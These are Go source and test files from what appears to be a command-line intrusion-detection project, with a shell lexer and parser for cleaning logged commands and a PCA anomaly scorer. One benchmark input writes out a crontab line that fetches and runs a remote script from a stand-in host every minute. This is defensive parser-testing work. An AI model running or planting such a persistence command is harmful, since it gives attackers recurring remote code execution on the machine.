			if tok.Kind != TokenWord {
				continue
			}
			var b strings.Builder
			for _, p := range tok.Word.Parts {
				b.WriteString(p.Raw)
			}
			if b.String() != tok.Word.Raw {
				t.Errorf("parts of %q join to %q", tok.Word.Raw, b.String())
			}
		}
	}
}

func TestAssignmentWord(t *testing.T) {
	tests := []struct {
		in   string
		is   bool
		name string
	}{
		{"FOO=bar", true, "FOO"},
		{"_x1=2", true, "_x1"},
		{"PATH=$PATH:/opt", true, "PATH"},
		{"1X=2", false, ""},
		{"=x", false, ""},
		{"noequals", false, ""},
		{"a-b=c", false, ""},
	}
	for _, tc := range tests {
		toks, err := Lex(tc.in)
		if err != nil {
			t.Fatalf("Lex(%q): %v", tc.in, err)
		}
		w := toks[0].Word
		if got := w.IsAssignment(); got != tc.is {
			t.Errorf("IsAssignment(%q) = %v, want %v", tc.in, got, tc.is)
		}
		if got := w.AssignmentName(); got != tc.name {
			t.Errorf("AssignmentName(%q) = %q, want %q", tc.in, got, tc.name)
		}
	}
}
