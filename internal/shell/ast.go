package shell

import "strings"

// Node is implemented by every AST node.
type Node interface {
	// String reconstructs a canonical source form of the node.
	String() string
	// Position returns the byte offset of the node's first token.
	Position() int
}

// Line is the root node: a full command line consisting of one or more
// and-or lists separated by ';' or '&'.
type Line struct {
	Items []*ListItem
	Pos   int
}

// ListItem is one and-or list plus the separator that follows it
// (";", "&", or "" for the last item).
type ListItem struct {
	AndOr *AndOr
	Sep   string
}

// AndOr is a sequence of pipelines joined by '&&' and '||'.
type AndOr struct {
	// Pipelines has one more element than Ops.
	Pipelines []*Pipeline
	// Ops[i] joins Pipelines[i] and Pipelines[i+1]; each is "&&" or "||".
	Ops []string
	Pos int
}

// Pipeline is a sequence of commands joined by '|' or '|&'.
type Pipeline struct {
	// Negated is true when the pipeline is prefixed by '!'.
	Negated bool
	// Commands has one more element than Ops.
	Commands []Command
	// Ops[i] joins Commands[i] and Commands[i+1]; each is "|" or "|&".
	Ops []string
	Pos int
}

// Command is either a *SimpleCommand or a *Subshell.
type Command interface {
	Node
	commandNode()
}

// SimpleCommand is a command name with assignments, arguments, and
// redirections, e.g. `FOO=1 curl -fsSL https://x/y.sh`.
type SimpleCommand struct {
	// Assignments are the leading NAME=value words.
	Assignments []*Word
	// Words are the command name (Words[0], if any) and its arguments.
	Words []*Word
	// Redirects are the redirections attached to the command.
	Redirects []*Redirect
	Pos       int
}

// Subshell is a parenthesized command list.
type Subshell struct {
	Inner     *Line
	Redirects []*Redirect
	Pos       int
}

// Redirect is a single redirection such as `2>> /var/log/x` or `<& 3`.
type Redirect struct {
	// N is the explicit file-descriptor number as written, or "" when absent.
	N string
	// Op is the operator text (">", ">>", "<", "<<", ">&", ...).
	Op string
	// Target is the word the redirection applies to.
	Target *Word
	Pos    int
}

func (*SimpleCommand) commandNode() {}
func (*Subshell) commandNode()      {}

// Position implements Node.
func (l *Line) Position() int { return l.Pos }

// Position implements Node.
func (a *AndOr) Position() int { return a.Pos }

// Position implements Node.
func (p *Pipeline) Position() int { return p.Pos }

// Position implements Node.
func (c *SimpleCommand) Position() int { return c.Pos }

// Position implements Node.
func (s *Subshell) Position() int { return s.Pos }

// Position implements Node.
func (r *Redirect) Position() int { return r.Pos }

// String reconstructs the line in canonical spacing.
func (l *Line) String() string {
	var b strings.Builder
	for i, it := range l.Items {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(it.AndOr.String())
		switch it.Sep {
		case ";":
			b.WriteString(" ;")
		case "&":
			b.WriteString(" &")
		}
	}
	return b.String()
}

// String implements Node.
func (a *AndOr) String() string {
	var b strings.Builder
	for i, p := range a.Pipelines {
		if i > 0 {
			b.WriteByte(' ')
			b.WriteString(a.Ops[i-1])
			b.WriteByte(' ')
		}
		b.WriteString(p.String())
	}
	return b.String()
}

// String implements Node.
func (p *Pipeline) String() string {
	var b strings.Builder
	if p.Negated {
		b.WriteString("! ")
	}
	for i, c := range p.Commands {
		if i > 0 {
			b.WriteByte(' ')
			b.WriteString(p.Ops[i-1])
			b.WriteByte(' ')
		}
		b.WriteString(c.String())
	}
	return b.String()
}

// String implements Node.
func (c *SimpleCommand) String() string {
	parts := make([]string, 0, len(c.Assignments)+len(c.Words)+len(c.Redirects))
	for _, a := range c.Assignments {
		parts = append(parts, a.Raw)
	}
	for _, w := range c.Words {
		parts = append(parts, w.Raw)
	}
	for _, r := range c.Redirects {
		parts = append(parts, r.String())
	}
	return strings.Join(parts, " ")
}

// String implements Node.
func (s *Subshell) String() string {
	var b strings.Builder
	b.WriteString("( ")
	b.WriteString(s.Inner.String())
	b.WriteString(" )")
	for _, r := range s.Redirects {
		b.WriteByte(' ')
		b.WriteString(r.String())
	}
	return b.String()
}

// String implements Node.
func (r *Redirect) String() string {
	var b strings.Builder
	b.WriteString(r.N)
	b.WriteString(r.Op)
	if r.Target != nil {
		b.WriteByte(' ')
		b.WriteString(r.Target.Raw)
	}
	return b.String()
}

// Walk calls fn for every node in the tree rooted at n, in source order.
// Walking stops early if fn returns false.
func Walk(n Node, fn func(Node) bool) bool {
	if n == nil || !fn(n) {
		return false
	}
	switch t := n.(type) {
	case *Line:
		for _, it := range t.Items {
			if !Walk(it.AndOr, fn) {
				return false
			}
		}
	case *AndOr:
		for _, p := range t.Pipelines {
			if !Walk(p, fn) {
				return false
			}
		}
	case *Pipeline:
		for _, c := range t.Commands {
			if !Walk(c, fn) {
				return false
			}
		}
	case *Subshell:
		if !Walk(t.Inner, fn) {
			return false
		}
		for _, r := range t.Redirects {
			if !Walk(r, fn) {
				return false
			}
		}
	case *SimpleCommand:
		for _, r := range t.Redirects {
			if !Walk(r, fn) {
				return false
			}
		}
	}
	return true
}

// SimpleCommands returns every simple command in the tree, in source order,
// including those nested in subshells and pipelines.
func (l *Line) SimpleCommands() []*SimpleCommand {
	var out []*SimpleCommand
	Walk(l, func(n Node) bool {
		if sc, ok := n.(*SimpleCommand); ok {
			out = append(out, sc)
		}
		return true
	})
	return out
}
