// Package shell implements a POSIX-style shell command-line lexer and parser.
//
// It plays the role of bashlex in the paper's pre-processing stage (Fig. 2):
// each logged command line is parsed into a tree of commands so that
// syntactically invalid lines (typos, corrupted log records, nonsense
// operators such as "->") can be rejected before they reach the language
// model, and so that command names can be separated from flags and arguments
// for the command-frequency filter.
//
// The dialect covered is the common core of POSIX sh and bash as it appears
// in interactive command lines: simple commands, variable assignments,
// pipelines (| and |&), and/or lists (&& and ||), sequential lists (; and &),
// subshells, redirections (including file-descriptor forms), single and
// double quoting, backslash escapes, parameter expansion ($VAR, ${...}),
// command substitution ($(...), `...`), and arithmetic expansion ($((...))).
// Flow-control keywords (if, for, while, ...) are treated as ordinary words,
// which is sufficient for log triage and mirrors how the paper uses bashlex.
package shell

import "fmt"

// TokenKind identifies the lexical class of a token.
type TokenKind int

// Token kinds. Operators use one kind per distinct operator so the parser
// can switch on them directly.
const (
	TokenEOF TokenKind = iota + 1
	TokenWord
	TokenIONumber  // digits immediately preceding a redirection operator
	TokenSemi      // ;
	TokenAmp       // &
	TokenAndIf     // &&
	TokenOrIf      // ||
	TokenPipe      // |
	TokenPipeAmp   // |& (bash: pipe stdout+stderr)
	TokenLParen    // (
	TokenRParen    // )
	TokenLess      // <
	TokenGreat     // >
	TokenDGreat    // >>
	TokenDLess     // <<
	TokenDLessDash // <<-
	TokenLessAnd   // <&
	TokenGreatAnd  // >&
	TokenLessGreat // <>
	TokenClobber   // >|
	TokenAmpGreat  // &> (bash)
	TokenAmpDGreat // &>> (bash)
)

var tokenKindNames = map[TokenKind]string{
	TokenEOF:       "EOF",
	TokenWord:      "WORD",
	TokenIONumber:  "IO_NUMBER",
	TokenSemi:      ";",
	TokenAmp:       "&",
	TokenAndIf:     "&&",
	TokenOrIf:      "||",
	TokenPipe:      "|",
	TokenPipeAmp:   "|&",
	TokenLParen:    "(",
	TokenRParen:    ")",
	TokenLess:      "<",
	TokenGreat:     ">",
	TokenDGreat:    ">>",
	TokenDLess:     "<<",
	TokenDLessDash: "<<-",
	TokenLessAnd:   "<&",
	TokenGreatAnd:  ">&",
	TokenLessGreat: "<>",
	TokenClobber:   ">|",
	TokenAmpGreat:  "&>",
	TokenAmpDGreat: "&>>",
}

// String returns a human-readable name for the token kind.
func (k TokenKind) String() string {
	if s, ok := tokenKindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("TokenKind(%d)", int(k))
}

// IsRedirect reports whether the kind is a redirection operator.
func (k TokenKind) IsRedirect() bool {
	switch k {
	case TokenLess, TokenGreat, TokenDGreat, TokenDLess, TokenDLessDash,
		TokenLessAnd, TokenGreatAnd, TokenLessGreat, TokenClobber,
		TokenAmpGreat, TokenAmpDGreat:
		return true
	}
	return false
}

// Token is a single lexical token with its source position.
type Token struct {
	Kind TokenKind
	// Text is the raw source text of the token, including quotes.
	Text string
	// Word holds the structured form when Kind is TokenWord.
	Word *Word
	// Pos is the byte offset of the token's first character in the input.
	Pos int
}

// String renders the token for error messages and debugging.
func (t Token) String() string {
	if t.Kind == TokenWord {
		return fmt.Sprintf("word %q", t.Text)
	}
	return fmt.Sprintf("%q", t.Kind.String())
}

// PartKind identifies the kind of a word part.
type PartKind int

// Word part kinds.
const (
	PartLiteral PartKind = iota + 1
	PartSingleQuoted
	PartDoubleQuoted
	PartVar    // $NAME or ${...}
	PartCmdSub // $(...) or `...`
	PartArith  // $((...))
	PartEscape // backslash-escaped character
)

var partKindNames = map[PartKind]string{
	PartLiteral:      "literal",
	PartSingleQuoted: "single-quoted",
	PartDoubleQuoted: "double-quoted",
	PartVar:          "variable",
	PartCmdSub:       "command-substitution",
	PartArith:        "arithmetic",
	PartEscape:       "escape",
}

// String returns a human-readable name for the part kind.
func (k PartKind) String() string {
	if s, ok := partKindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("PartKind(%d)", int(k))
}

// WordPart is one syntactic piece of a word.
type WordPart struct {
	Kind PartKind
	// Raw is the exact source text of the part, including any quotes or
	// expansion delimiters.
	Raw string
	// Inner is the content between delimiters: the text inside quotes, the
	// variable name, or the command inside a substitution.
	Inner string
}

// Word is a shell word: a maximal run of non-metacharacter text possibly
// containing quoted regions and expansions.
type Word struct {
	// Raw is the exact source text of the word.
	Raw string
	// Parts decomposes the word; concatenating Parts[i].Raw yields Raw.
	Parts []WordPart
	// Pos is the byte offset of the word in the input.
	Pos int
}

// Unquoted returns the word with quoting removed but expansions left as
// written ("$HOME" stays "$HOME"). This is the canonical token surface the
// rest of the pipeline works with.
func (w *Word) Unquoted() string {
	if w == nil {
		return ""
	}
	buf := make([]byte, 0, len(w.Raw))
	for _, p := range w.Parts {
		switch p.Kind {
		case PartLiteral:
			buf = append(buf, p.Raw...)
		case PartSingleQuoted, PartDoubleQuoted:
			buf = append(buf, p.Inner...)
		case PartEscape:
			buf = append(buf, p.Inner...)
		default:
			buf = append(buf, p.Raw...)
		}
	}
	return string(buf)
}

// HasExpansion reports whether the word contains parameter or command
// substitution or arithmetic expansion anywhere, including inside double
// quotes.
func (w *Word) HasExpansion() bool {
	if w == nil {
		return false
	}
	for _, p := range w.Parts {
		switch p.Kind {
		case PartVar, PartCmdSub, PartArith:
			return true
		case PartDoubleQuoted:
			if containsExpansion(p.Inner) {
				return true
			}
		}
	}
	return false
}

// IsAssignment reports whether the word has the shape NAME=value with a
// valid identifier before the first unquoted '='.
func (w *Word) IsAssignment() bool {
	if w == nil || len(w.Parts) == 0 || w.Parts[0].Kind != PartLiteral {
		return false
	}
	lit := w.Parts[0].Raw
	for i := 0; i < len(lit); i++ {
		c := lit[i]
		if c == '=' {
			return i > 0
		}
		if !isIdentChar(c, i == 0) {
			return false
		}
	}
	return false
}

// AssignmentName returns the NAME part of a NAME=value word, or "" when the
// word is not an assignment.
func (w *Word) AssignmentName() string {
	if !w.IsAssignment() {
		return ""
	}
	lit := w.Parts[0].Raw
	for i := 0; i < len(lit); i++ {
		if lit[i] == '=' {
			return lit[:i]
		}
	}
	return ""
}

func isIdentChar(c byte, first bool) bool {
	switch {
	case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c == '_':
		return true
	case c >= '0' && c <= '9':
		return !first
	}
	return false
}

func containsExpansion(s string) bool {
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++
		case '$', '`':
			return true
		}
	}
	return false
}
