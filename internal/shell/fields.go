package shell

import "strings"

// Invocation is the flattened view of one simple command: the command name
// with its flags and positional arguments separated, which is what the
// command-frequency filter and the qualitative analyses consume.
type Invocation struct {
	// Name is the command name with any leading path stripped
	// ("/usr/bin/curl" -> "curl"). Empty for assignment-only commands.
	Name string
	// Path is the command word exactly as written.
	Path string
	// Flags are arguments that begin with '-' (including long "--flag" and
	// combined "-abc" forms), in order.
	Flags []string
	// Args are the remaining positional arguments, in order.
	Args []string
	// Assignments are the leading NAME=value environment words.
	Assignments []string
}

// Invocations extracts every command invocation from a parsed line,
// including commands inside pipelines, lists, and subshells.
func (l *Line) Invocations() []Invocation {
	cmds := l.SimpleCommands()
	out := make([]Invocation, 0, len(cmds))
	for _, c := range cmds {
		out = append(out, invocationOf(c))
	}
	return out
}

func invocationOf(c *SimpleCommand) Invocation {
	inv := Invocation{}
	inv.Assignments = make([]string, 0, len(c.Assignments))
	for _, a := range c.Assignments {
		inv.Assignments = append(inv.Assignments, a.Unquoted())
	}
	if len(c.Words) == 0 {
		return inv
	}
	inv.Path = c.Words[0].Unquoted()
	inv.Name = BaseName(inv.Path)
	for _, w := range c.Words[1:] {
		u := w.Unquoted()
		if IsFlag(u) {
			inv.Flags = append(inv.Flags, u)
		} else {
			inv.Args = append(inv.Args, u)
		}
	}
	return inv
}

// BaseName strips any directory prefix from a command word:
// "/usr/local/bin/python3" -> "python3". Words that are pure paths with a
// trailing slash return "".
func BaseName(path string) string {
	if i := strings.LastIndexByte(path, '/'); i >= 0 {
		return path[i+1:]
	}
	return path
}

// IsFlag reports whether an argument word is an option flag. A lone "-"
// (stdin placeholder) and "--" (end-of-options) are not flags, matching how
// command-line corpora usually bucket tokens.
func IsFlag(arg string) bool {
	if len(arg) < 2 || arg[0] != '-' {
		return false
	}
	if arg == "--" {
		return false
	}
	return true
}

// CommandNames returns the distinct command names used on the line, in
// first-use order. Names are path-stripped.
func (l *Line) CommandNames() []string {
	seen := make(map[string]bool)
	var out []string
	for _, inv := range l.Invocations() {
		if inv.Name == "" || seen[inv.Name] {
			continue
		}
		seen[inv.Name] = true
		out = append(out, inv.Name)
	}
	return out
}

// FirstCommand returns the name of the first command on the line, or ""
// when the line holds only assignments.
func (l *Line) FirstCommand() string {
	for _, inv := range l.Invocations() {
		if inv.Name != "" {
			return inv.Name
		}
	}
	return ""
}

// Normalize re-renders the line with canonical single spacing between
// tokens. Parsing failures yield the input trimmed, so Normalize is safe to
// call on arbitrary log records.
func Normalize(line string) string {
	ast, err := Parse(line)
	if err != nil {
		return strings.TrimSpace(line)
	}
	return ast.String()
}
