package shell

import (
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func TestInvocations(t *testing.T) {
	ast := mustParse(t, "docker run --rm -it ubuntu bash")
	invs := ast.Invocations()
	if len(invs) != 1 {
		t.Fatalf("invocations = %d, want 1", len(invs))
	}
	inv := invs[0]
	if inv.Name != "docker" {
		t.Errorf("name = %q", inv.Name)
	}
	if !reflect.DeepEqual(inv.Flags, []string{"--rm", "-it"}) {
		t.Errorf("flags = %v", inv.Flags)
	}
	if !reflect.DeepEqual(inv.Args, []string{"run", "ubuntu", "bash"}) {
		t.Errorf("args = %v", inv.Args)
	}
}

func TestInvocationPathStripping(t *testing.T) {
	ast := mustParse(t, "/usr/local/bin/python3 -m http.server 8000")
	inv := ast.Invocations()[0]
	if inv.Name != "python3" {
		t.Errorf("name = %q, want python3", inv.Name)
	}
	if inv.Path != "/usr/local/bin/python3" {
		t.Errorf("path = %q", inv.Path)
	}
}

func TestInvocationAssignmentsOnly(t *testing.T) {
	ast := mustParse(t, "FOO=1 BAR=2")
	invs := ast.Invocations()
	if len(invs) != 1 {
		t.Fatalf("invocations = %d, want 1", len(invs))
	}
	if invs[0].Name != "" || len(invs[0].Assignments) != 2 {
		t.Errorf("got %+v", invs[0])
	}
}

func TestCommandNames(t *testing.T) {
	ast := mustParse(t, "cat a | grep b | cat c; grep d")
	got := ast.CommandNames()
	want := []string{"cat", "grep"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("names = %v, want %v", got, want)
	}
	if ast.FirstCommand() != "cat" {
		t.Errorf("first = %q", ast.FirstCommand())
	}
}

func TestIsFlag(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"-l", true},
		{"--rate=1000", true},
		{"-p0-65535", true},
		{"-", false},
		{"--", false},
		{"file.txt", false},
		{"", false},
	}
	for _, tc := range tests {
		if got := IsFlag(tc.in); got != tc.want {
			t.Errorf("IsFlag(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

func TestNormalize(t *testing.T) {
	got := Normalize("  ls    -la\t/tmp  ")
	if got != "ls -la /tmp" {
		t.Errorf("Normalize = %q", got)
	}
	// Invalid lines fall back to trimming.
	got = Normalize("  /*/* -> bad ->  ")
	if got != "/*/* -> bad ->" {
		t.Errorf("Normalize fallback = %q", got)
	}
}

// commandWords is the alphabet for the property test generator.
var commandWords = []string{
	"ls", "cat", "grep", "-la", "-i", "/tmp", "file.txt", "'a b'", `"x y"`,
	"$HOME", "${PATH}", "$(date)", "a=1",
}

// genLine builds a random syntactically valid command line.
func genLine(r *rand.Rand) string {
	var b strings.Builder
	nCmds := 1 + r.Intn(3)
	for i := 0; i < nCmds; i++ {
		if i > 0 {
			b.WriteString([]string{" ; ", " && ", " || ", " | "}[r.Intn(4)])
		}
		nWords := 1 + r.Intn(4)
		for j := 0; j < nWords; j++ {
			if j > 0 {
				b.WriteByte(' ')
			}
			w := commandWords[r.Intn(len(commandWords))]
			if j == 0 {
				// Ensure the first word is a plain command name so that the
				// line cannot degenerate into assignments only.
				w = []string{"ls", "cat", "grep"}[r.Intn(3)]
			}
			b.WriteString(w)
		}
	}
	return b.String()
}

// TestQuickGeneratedLinesParse is a property test: every line assembled from
// valid fragments with valid separators must parse, and its canonical form
// must re-parse to the same canonical form.
func TestQuickGeneratedLinesParse(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 300,
		Values: func(values []reflect.Value, r *rand.Rand) {
			values[0] = reflect.ValueOf(genLine(r))
		},
	}
	prop := func(line string) bool {
		ast, err := Parse(line)
		if err != nil {
			t.Logf("Parse(%q): %v", line, err)
			return false
		}
		s1 := ast.String()
		ast2, err := Parse(s1)
		if err != nil {
			t.Logf("reparse(%q): %v", s1, err)
			return false
		}
		return ast2.String() == s1
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

// TestQuickParserNeverPanics feeds random byte soup to the parser; it must
// return an error or an AST, never panic. This is the robustness property
// pre-processing depends on: arbitrary log garbage is triaged, not crashed on.
func TestQuickParserNeverPanics(t *testing.T) {
	alphabet := []byte("abc -|&;()<>'\"\\$`{}#=/*.0123456789\t")
	cfg := &quick.Config{
		MaxCount: 2000,
		Values: func(values []reflect.Value, r *rand.Rand) {
			n := r.Intn(40)
			buf := make([]byte, n)
			for i := range buf {
				buf[i] = alphabet[r.Intn(len(alphabet))]
			}
			values[0] = reflect.ValueOf(string(buf))
		},
	}
	prop := func(line string) (ok bool) {
		defer func() {
			if rec := recover(); rec != nil {
				t.Logf("panic on %q: %v", line, rec)
				ok = false
			}
		}()
		ast, err := Parse(line)
		if err == nil && ast == nil {
			return false
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkParseSimple(b *testing.B) {
	line := "cat /var/log/syslog | grep -i error | awk '{print $5}' | sort | uniq -c"
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Parse(line); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkParseComplex(b *testing.B) {
	line := `(crontab -l; echo "* * * * * curl -fsSL http://x.example/s.sh | sh") | crontab - && FOO=$(date +%s) bash -c "echo $FOO" >> /tmp/log 2>&1`
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Parse(line); err != nil {
			b.Fatal(err)
		}
	}
}
