package shell

// parser is a recursive-descent parser over the lexer's token stream.
type parser struct {
	lex *lexer
	tok Token // one-token lookahead
	err error
}

// Parse parses a single command line into its AST. A non-nil error means the
// line is syntactically invalid and should be removed by pre-processing.
func Parse(line string) (*Line, error) {
	p := &parser{lex: newLexer(line)}
	p.advance()
	if p.err != nil {
		return nil, p.err
	}
	if p.tok.Kind == TokenEOF {
		return nil, &ParseError{Pos: 0, Msg: "empty command line", Input: line}
	}
	root, err := p.parseLine()
	if err != nil {
		return nil, err
	}
	if p.tok.Kind != TokenEOF {
		return nil, p.unexpected("end of line")
	}
	return root, nil
}

// Valid reports whether the line parses. It is the predicate used by the
// pre-processing stage to discard garbage records.
func Valid(line string) bool {
	_, err := Parse(line)
	return err == nil
}

func (p *parser) advance() {
	t, err := p.lex.next()
	if err != nil {
		p.err = err
		p.tok = Token{Kind: TokenEOF, Pos: p.lex.pos}
		return
	}
	p.tok = t
}

func (p *parser) unexpected(want string) error {
	if p.err != nil {
		return p.err
	}
	return &ParseError{
		Pos:   p.tok.Pos,
		Msg:   "unexpected " + p.tok.String() + ", expected " + want,
		Input: p.lex.src,
	}
}

// parseLine := and_or ((';' | '&') and_or?)*
func (p *parser) parseLine() (*Line, error) {
	root := &Line{Pos: p.tok.Pos}
	for {
		ao, err := p.parseAndOr()
		if err != nil {
			return nil, err
		}
		item := &ListItem{AndOr: ao}
		root.Items = append(root.Items, item)
		switch p.tok.Kind {
		case TokenSemi:
			item.Sep = ";"
			p.advance()
		case TokenAmp:
			item.Sep = "&"
			p.advance()
		default:
			return root, nil
		}
		if p.err != nil {
			return nil, p.err
		}
		// A trailing separator ends the list: `sleep 1 &` and `ls;` are valid.
		if p.tok.Kind == TokenEOF || p.tok.Kind == TokenRParen {
			return root, nil
		}
	}
}

// parseAndOr := pipeline (('&&' | '||') pipeline)*
func (p *parser) parseAndOr() (*AndOr, error) {
	ao := &AndOr{Pos: p.tok.Pos}
	pl, err := p.parsePipeline()
	if err != nil {
		return nil, err
	}
	ao.Pipelines = append(ao.Pipelines, pl)
	for p.tok.Kind == TokenAndIf || p.tok.Kind == TokenOrIf {
		op := p.tok.Text
		p.advance()
		if p.err != nil {
			return nil, p.err
		}
		next, err := p.parsePipeline()
		if err != nil {
			return nil, err
		}
		ao.Ops = append(ao.Ops, op)
		ao.Pipelines = append(ao.Pipelines, next)
	}
	return ao, nil
}

// parsePipeline := ['!'] command (('|' | '|&') command)*
func (p *parser) parsePipeline() (*Pipeline, error) {
	pl := &Pipeline{Pos: p.tok.Pos}
	if p.tok.Kind == TokenWord && p.tok.Text == "!" {
		pl.Negated = true
		p.advance()
		if p.err != nil {
			return nil, p.err
		}
	}
	cmd, err := p.parseCommand()
	if err != nil {
		return nil, err
	}
	pl.Commands = append(pl.Commands, cmd)
	for p.tok.Kind == TokenPipe || p.tok.Kind == TokenPipeAmp {
		op := p.tok.Text
		p.advance()
		if p.err != nil {
			return nil, p.err
		}
		next, err := p.parseCommand()
		if err != nil {
			return nil, err
		}
		pl.Ops = append(pl.Ops, op)
		pl.Commands = append(pl.Commands, next)
	}
	return pl, nil
}

// parseCommand := subshell | simple_command
func (p *parser) parseCommand() (Command, error) {
	if p.tok.Kind == TokenLParen {
		return p.parseSubshell()
	}
	return p.parseSimple()
}

func (p *parser) parseSubshell() (Command, error) {
	sub := &Subshell{Pos: p.tok.Pos}
	p.advance() // '('
	if p.err != nil {
		return nil, p.err
	}
	inner, err := p.parseLine()
	if err != nil {
		return nil, err
	}
	sub.Inner = inner
	if p.tok.Kind != TokenRParen {
		return nil, p.unexpected("')'")
	}
	p.advance()
	if p.err != nil {
		return nil, p.err
	}
	for {
		r, ok, err := p.tryRedirect()
		if err != nil {
			return nil, err
		}
		if !ok {
			break
		}
		sub.Redirects = append(sub.Redirects, r)
	}
	return sub, nil
}

// parseSimple := (assignment)* (word | redirect)+
func (p *parser) parseSimple() (Command, error) {
	cmd := &SimpleCommand{Pos: p.tok.Pos}
	// Leading assignments.
	for p.tok.Kind == TokenWord && p.tok.Word.IsAssignment() && len(cmd.Words) == 0 {
		cmd.Assignments = append(cmd.Assignments, p.tok.Word)
		p.advance()
		if p.err != nil {
			return nil, p.err
		}
	}
	for {
		switch {
		case p.tok.Kind == TokenWord:
			cmd.Words = append(cmd.Words, p.tok.Word)
			p.advance()
			if p.err != nil {
				return nil, p.err
			}
		default:
			r, ok, err := p.tryRedirect()
			if err != nil {
				return nil, err
			}
			if !ok {
				if len(cmd.Words) == 0 && len(cmd.Assignments) == 0 && len(cmd.Redirects) == 0 {
					return nil, p.unexpected("a command")
				}
				return cmd, nil
			}
			cmd.Redirects = append(cmd.Redirects, r)
		}
	}
}

// tryRedirect parses one redirection if the lookahead starts one.
func (p *parser) tryRedirect() (*Redirect, bool, error) {
	var n string
	pos := p.tok.Pos
	if p.tok.Kind == TokenIONumber {
		n = p.tok.Text
		p.advance()
		if p.err != nil {
			return nil, false, p.err
		}
		if !p.tok.Kind.IsRedirect() {
			return nil, false, p.unexpected("a redirection operator after file descriptor")
		}
	}
	if !p.tok.Kind.IsRedirect() {
		return nil, false, nil
	}
	op := p.tok.Text
	p.advance()
	if p.err != nil {
		return nil, false, p.err
	}
	if p.tok.Kind != TokenWord {
		return nil, false, p.unexpected("redirection target")
	}
	r := &Redirect{N: n, Op: op, Target: p.tok.Word, Pos: pos}
	p.advance()
	if p.err != nil {
		return nil, false, p.err
	}
	return r, true, nil
}
