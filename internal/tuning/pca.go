package tuning

import (
	"clmids/internal/anomaly"
	"clmids/internal/bpe"
	"clmids/internal/linalg"
	"clmids/internal/model"
)

// PCAScorer is the unsupervised §III detector lifted to raw command lines:
// embed with the frozen pre-trained encoder, score by PCA reconstruction
// error. It never tunes the backbone, so it scores through a persistent
// LRU-cached inference engine — repeated log lines skip the encoder — and
// Score is safe for concurrent use.
type PCAScorer struct {
	engine *Engine
	det    *anomaly.PCADetector
}

var (
	_ Scorer       = (*PCAScorer)(nil)
	_ Replicable   = (*PCAScorer)(nil)
	_ CacheStatser = (*PCAScorer)(nil)
)

// Replicate returns an independent replica sharing the frozen backbone and
// the fitted PCA detector; only the engine is replicated.
func (s *PCAScorer) Replicate() Scorer {
	return &PCAScorer{engine: s.engine.Clone(), det: s.det}
}

// CacheStats snapshots the serving engine's embedding-cache counters.
func (s *PCAScorer) CacheStats() CacheStats { return s.engine.CacheStats() }

// TrainPCA fits the unsupervised PCA detector on the baseline lines. No
// labels are needed; opts selects the retained components (the zero value
// keeps the paper's 95%).
func TrainPCA(enc *model.Encoder, tok *bpe.Tokenizer, lines []string, opts linalg.PCAOptions) (*PCAScorer, error) {
	engine := NewEngine(enc, tok, DefaultEngineConfig())
	emb, err := engine.EmbedLines(lines)
	if err != nil {
		return nil, err
	}
	det := &anomaly.PCADetector{Opts: opts}
	if err := det.Fit(emb); err != nil {
		return nil, err
	}
	return NewPCAScorer(engine, det), nil
}

// NewPCAScorer composes a scorer from an existing engine and an already
// fitted detector, for callers that size the engine themselves (e.g. the
// streaming throughput benchmarks). The engine's encoder must be the one
// the detector was fitted over, and must stay frozen.
func NewPCAScorer(engine *Engine, det *anomaly.PCADetector) *PCAScorer {
	return &PCAScorer{engine: engine, det: det}
}

// Score implements Scorer: Eq. (1) reconstruction error under the frozen
// backbone.
func (s *PCAScorer) Score(lines []string) ([]float64, error) {
	emb, err := s.engine.EmbedLines(lines)
	if err != nil {
		return nil, err
	}
	return anomaly.Scores(s.det, emb), nil
}

// Detector exposes the fitted PCA model.
func (s *PCAScorer) Detector() *anomaly.PCADetector { return s.det }
