package tuning

import (
	"testing"
)

// TestScorerReplicasScoreIdentically pins the sharding contract: for every
// method scorer, Replicate produces replicas whose scores are byte-equal
// to the original's on the same lines, with independent caches.
func TestScorerReplicasScoreIdentically(t *testing.T) {
	scorers := concurrencyScorers(t)
	f := getFixture(t)
	lines := append(append([]string(nil), f.testPos...), f.testNeg...)

	for name, s := range scorers {
		t.Run(name, func(t *testing.T) {
			reps, err := Replicas(s, 3)
			if err != nil {
				t.Fatal(err)
			}
			if len(reps) != 3 || reps[0] != s {
				t.Fatalf("Replicas: got %d scorers, first-is-original=%v", len(reps), reps[0] == s)
			}
			want, err := s.Score(lines)
			if err != nil {
				t.Fatal(err)
			}
			for r, rep := range reps[1:] {
				got, err := rep.Score(lines)
				if err != nil {
					t.Fatalf("replica %d: %v", r+1, err)
				}
				for i := range want {
					if got[i] != want[i] {
						t.Fatalf("replica %d line %d: %g, original %g", r+1, i, got[i], want[i])
					}
				}
			}
			// Replica caches are independent: the original's warm entries
			// must not appear in a fresh replica before it scores.
			fresh := s.(Replicable).Replicate()
			if cs, ok := fresh.(CacheStatser); ok {
				if st := cs.CacheStats(); st.Entries != 0 || st.Hits != 0 {
					t.Fatalf("fresh replica cache not empty: %+v", st)
				}
			}
		})
	}
}

// plainScorer is a Scorer without Replicate.
type plainScorer struct{}

func (plainScorer) Score(lines []string) ([]float64, error) {
	return make([]float64, len(lines)), nil
}

// TestReplicasRequiresReplicable: fanning out a non-replicable scorer is
// an error; a single "replica" (the scorer itself) is always fine.
func TestReplicasRequiresReplicable(t *testing.T) {
	if _, err := Replicas(plainScorer{}, 2); err == nil {
		t.Fatal("Replicas(non-replicable, 2) succeeded")
	}
	one, err := Replicas(plainScorer{}, 1)
	if err != nil || len(one) != 1 {
		t.Fatalf("Replicas(non-replicable, 1): %v %d", err, len(one))
	}
